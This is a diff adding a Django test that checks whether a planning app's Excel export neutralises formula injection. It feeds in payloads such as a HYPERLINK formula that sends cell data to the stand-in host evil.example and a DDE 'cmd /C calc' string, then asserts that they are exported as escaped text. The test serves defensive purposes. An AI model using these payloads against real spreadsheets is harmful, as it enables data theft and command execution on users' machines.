@@ -106,3 +106,22 @@ def test_the_print_stylesheet_has_plan_rules_under_media_print():
     css = Path(finders.find("css/plans.css")).read_text(encoding="utf-8")
 
     assert "@media print" in css and ".plan-print" in css.split("@media print", 1)[1]
+
+
+def test_no_cell_of_the_workbook_is_a_formula(client_for, planner, plan):
+    # given text that a spreadsheet would run: a task title, a lead, an indicator and a milestone
+    area = plan.areas.get()
+    task = services.task_save(area=area, by=planner, data={
+        "title": '=HYPERLINK("http://evil.example/?"&A1,"클릭")', "lead": "@SUM(1+1)", "indicator": "+cmd|' /C calc'!A0",
+        "indicator_unit": "-2+3", "budget_krw": 1_000_000, "funding_source": "city", "baseline": 1, "target": 2,
+        "department": Department.objects.create(district=plan.district, name="=cmd()")})
+    services.milestones_save(task=task, by=planner, items=[(1, "=1+1", "planned")])
+
+    book = workbook(client_for(planner), plan)
+
+    formulas = [(sheet.title, cell.coordinate, cell.value) for sheet in book.worksheets
+                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    titles = [row[1] for row in rows(book["추진과제"])]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"클릭")' in titles
+    assert any(row[3] == "'@SUM(1+1)" for row in rows(book["추진과제"]))
